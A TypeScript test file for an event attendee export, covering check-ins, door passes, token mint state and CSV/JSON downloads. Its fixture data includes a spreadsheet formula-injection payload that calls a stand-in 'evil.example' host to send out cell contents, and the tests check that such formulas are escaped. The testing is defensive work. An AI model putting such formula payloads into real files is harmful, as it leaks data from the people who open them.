import fs from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterEach, beforeEach, expect, test } from 'vitest'
import { attendeesCsv, attendeesDownload, exportAttendees } from '../../src/attendees/exportAttendees.js'
import { importAttendees } from '../../src/attendees/importAttendees.js'
import { createStation } from '../../src/stations/stations.js'
import { type BackendGateway, createBackendGateway, metadata, seedTeam } from '../helpers/gateway.js'
import { insertChainTx } from '../store/seedRows.js'

const CHIP = '04A1B2C3D4E5F6'
const MAP = 'name=Guest,email=Mail,ticket=Barcode,type=Pass,chip=Wristband,wallet=Wallet'
const custom = fs.readFileSync(path.join(import.meta.dirname, '../fixtures/attendees/custom.csv'))

let gw: BackendGateway
let eventId: number
let teamId: number

beforeEach(async () => {
  gw = await createBackendGateway()
  ;({ teamId } = await seedTeam(gw, {
    name: 'Venue',
    chips: [{ uid: CHIP }],
    guestbookContracts: [{ name: 'Guests', symbol: 'GST', chainId: 31337, events: [{ name: 'Opening', tokenId: '1', metadata: metadata() }] }],
  }))
  eventId = (await gw.store.guestbook.listEvents(teamId))[0]!.id
  await importAttendees(gw.store, { eventId, input: custom, map: MAP, now: gw.clock.now })
})
afterEach(() => gw.close())

const T0 = Date.parse('2026-11-21T10:00:00.000Z')

/** Ada tapped in at Door A (her mint confirmed), went out and came back; Grace checked in by hand (no wallet: her token waits). */
async function doorNight() {
  const door = await gw.store.tx((tx) => createStation(tx, { teamId, name: 'Door A', now: T0 }))
  const exit = await gw.store.tx((tx) => createStation(tx, { teamId, name: 'Exit', now: T0 }))
  const ada = (await gw.store.attendees.findByCode(eventId, 'BC-0001'))!
  const grace = (await gw.store.attendees.findByCode(eventId, 'BC-0003'))!
  const adaIn = (await gw.store.checkIns.insert({ eventId, chipUid: CHIP, attendeeId: ada.id, stationId: door.stationId, manual: false, now: T0 + 60_000 }))!
  await gw.store.checkIns.setMint(adaIn, null, await insertChainTx(gw.store, { status: 'mined', reverted: false }))
  await gw.store.doorLog.addPass({ checkInId: adaIn, stationId: exit.stationId, direction: 'out', now: T0 + 120_000 })
  await gw.store.doorLog.addPass({ checkInId: adaIn, stationId: door.stationId, direction: 'in', now: T0 + 180_000 })
  await gw.store.checkIns.insert({ eventId, chipUid: null, attendeeId: grace.id, stationId: door.stationId, manual: true, now: T0 + 90_000 })
}

test('the export: every guest with chips, check-in time and door, manual or tapped, exits and re-entries, mint state', async () => {
  await doorNight()
  const data = await exportAttendees(gw.store, { eventId, now: T0 + 1e6 })
  expect(data).toMatchObject({ eventId, eventName: 'Opening', exportedAt: '2026-11-21T10:16:40.000Z' })
  // By name, byte order: '=' sorts before the letters.
  expect(data.attendees.map((a) => a.ticketCode)).toEqual(['BC-0002', 'BC-0001', 'BC-0003'])
  expect(data.attendees[1]).toEqual({
    ticketCode: 'BC-0001',
    name: 'Ada Lovelace',
    email: 'ada@example.com',
    ticketType: 'VIP',
    wallet: '0x5FbDB2315678afecb367f032d93F642f64180aa3',
    note: null,
    needsAttention: false,
    paid: true,
    chips: [CHIP],
    checkIn: { at: '2026-11-21T10:01:00.000Z', station: 'Door A', method: 'tap', leftAt: null },
    passes: [
      { direction: 'out', at: '2026-11-21T10:02:00.000Z', station: 'Exit' },
      { direction: 'in', at: '2026-11-21T10:03:00.000Z', station: 'Door A' },
    ],
    mint: { state: 'confirmed', txHash: expect.stringMatching(/^0x[0-9a-f]{64}$/) },
  })
  expect(data.attendees[2]).toMatchObject({ name: 'Grace Hopper', chips: [], checkIn: { method: 'manual', station: 'Door A' }, passes: [], mint: { state: 'waiting_wallet', txHash: null } })
  // JSON carries the raw values: the formula-looking name as the guest list had it.
  expect(data.attendees[0]).toMatchObject({ name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', checkIn: null, mint: { state: 'none', txHash: null } })
})

test("a cell a spreadsheet would run as a formula is exported with a leading ' (and read back as text)", async () => {
  await doorNight()
  const csv = attendeesCsv(await exportAttendees(gw.store, { eventId, now: T0 }))
  expect(csv.startsWith('\uFEFFticket_code,name,email,ticket_type,wallet,note,needs_attention,paid,chips,checked_in_at,check_in_station,check_in_method,left_at,exits,reentries,mint_state,mint_tx_hash\r\n')).toBe(true)
  const rows = parse(csv, { bom: true, columns: true }) as Record<string, string>[]
  expect(rows.map((r) => r.name)).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, 'Ada Lovelace', 'Grace Hopper'])
  expect(rows[1]).toMatchObject({
    chips: CHIP,
    checked_in_at: '2026-11-21T10:01:00.000Z',
    check_in_station: 'Door A',
    check_in_method: 'tap',
    left_at: '',
    exits: '2026-11-21T10:02:00.000Z Exit',
    reentries: '2026-11-21T10:03:00.000Z Door A',
    mint_state: 'confirmed',
  })
  expect(rows[2]).toMatchObject({ check_in_method: 'manual', mint_state: 'waiting_wallet', needs_attention: 'no' })
  // Every character that starts a formula: = + - @ tab, CR (and Excel's full-width ones).
  const tricky = ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '＝1']
  const data = await exportAttendees(gw.store, { eventId, now: T0 })
  const escaped = parse(attendeesCsv({ ...data, attendees: tricky.map((name) => ({ ...data.attendees[1]!, name })) }), { bom: true, columns: true }) as Record<string, string>[]
  expect(escaped.map((r) => r.name)).toEqual(tricky.map((name) => `'${name}`))
})

test('downloads name the event and say the type', async () => {
  const data = await exportAttendees(gw.store, { eventId, now: T0 })
  const text = async (body: AsyncIterable<string>) => {
    let all = ''
    for await (const piece of body) all += piece
    return all
  }
  const csv = await attendeesDownload(gw.store, { eventId, now: T0 }, 'csv')
  expect(csv).toMatchObject({ contentType: 'text/csv; charset=utf-8', filename: `attendees-event-${eventId}.csv` })
  // Streamed a page at a time, the same text as the export made at once.
  expect(await text(csv.body)).toBe(attendeesCsv(data))
  const json = await attendeesDownload(gw.store, { eventId, now: T0 }, 'json')
  expect(await text(json.body)).toBe(`${JSON.stringify(data, null, 2)}\n`)
  expect(json.contentType).toBe('application/json; charset=utf-8')
})
